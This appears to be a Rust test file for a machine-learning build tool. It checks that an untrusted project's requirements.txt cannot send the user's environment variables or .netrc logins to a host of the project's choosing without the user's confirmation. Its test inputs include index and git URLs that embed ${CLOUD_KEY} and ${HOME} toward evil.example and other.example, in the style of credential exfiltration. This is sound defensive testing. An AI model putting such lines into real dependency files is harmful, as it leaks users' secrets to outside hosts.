//! What a project's dependency files can have of the user's variables and logins: nothing that the user did not confirm.

use alekseylearn_tests::{Sandbox, base_image_or_skip};

const SECRET: &str = "hunter2-of-the-user";
const DRY_RUN: [&str; 3] = ["fit", "project/train.py", "--dry-run"];

/// A user with logins, and a project of a stranger's.
fn user(requirements: &str) -> Sandbox {
    let mut sandbox = Sandbox::new();
    sandbox.set("CLOUD_KEY", SECRET);
    sandbox.write_home(".netrc", &format!("machine corp.example login ada password {SECRET}\n"));
    sandbox.write("project/train.py", "");
    sandbox.write("project/requirements.txt", requirements);
    sandbox
}

/// The attacks: a variable and a login of the user's, at a host of the project's choice.
#[test]
fn a_login_of_the_users_is_confirmed_once() {
    for (requirements, claim) in [
        (
            "--extra-index-url https://x:${CLOUD_KEY}@evil.example/simple\n",
            "login to evil.example with your variable CLOUD_KEY (in requirements.txt)",
        ),
        (
            "x @ git+https://${CLOUD_KEY}@evil.example/x.git\n",
            "login to evil.example with your variable CLOUD_KEY (in requirements.txt)",
        ),
        ("--extra-index-url https://corp.example/simple\n", "login to corp.example with /"),
    ] {
        let sandbox = user(requirements);
        let refused = sandbox.run(&DRY_RUN).failure(3).one_error().says(claim).says("--trust");
        assert!(!refused.stderr.contains(SECRET), "{}", refused.stderr);
        sandbox.run(&["check", "project/train.py"]).failure(3).one_error();
        let trusted = sandbox.run(&["trust", "project"]).success();
        assert!(trusted.stdout.contains(claim), "{}", trusted.stdout);
        sandbox.run(&DRY_RUN).success();
        sandbox.write("project/requirements.txt", "--index-url https://${HOME}@other.example/\n");
        sandbox.run(&DRY_RUN).failure(3).one_error().says("login to other.example");
    }
}

#[test]
fn settings_of_the_users_own_need_no_question() {
    let sandbox = user("--extra-index-url https://corp.example/simple\n");
    sandbox.write_home(
        ".config/pip/pip.conf",
        "[global]\nindex-url = https://${CLOUD_KEY}@corp.example/simple\n",
    );
    sandbox.run(&DRY_RUN).success();
}

/// The attack: what stands in a comment, or only tells of the project, was mounted into every build.
#[test]
fn a_comment_brings_no_login_into_the_build() {
    let base = base_image_or_skip!();
    let sandbox = user("# https://${CLOUD_KEY}@evil.example/ and https://corp.example/\n");
    sandbox.run(&DRY_RUN).success();
    let own = sandbox.path("").display().to_string();
    let dockerfile = format!(
        "FROM {base}\nRUN --mount=type=secret,id=netrc test ! -e /run/secrets/netrc && : {own}\nENTRYPOINT [\"true\"]\n"
    );
    sandbox.write("project/alekseylearn/Dockerfile", &dockerfile);
    sandbox.run(&["fit", "project/train.py", "--trust"]).success();
}
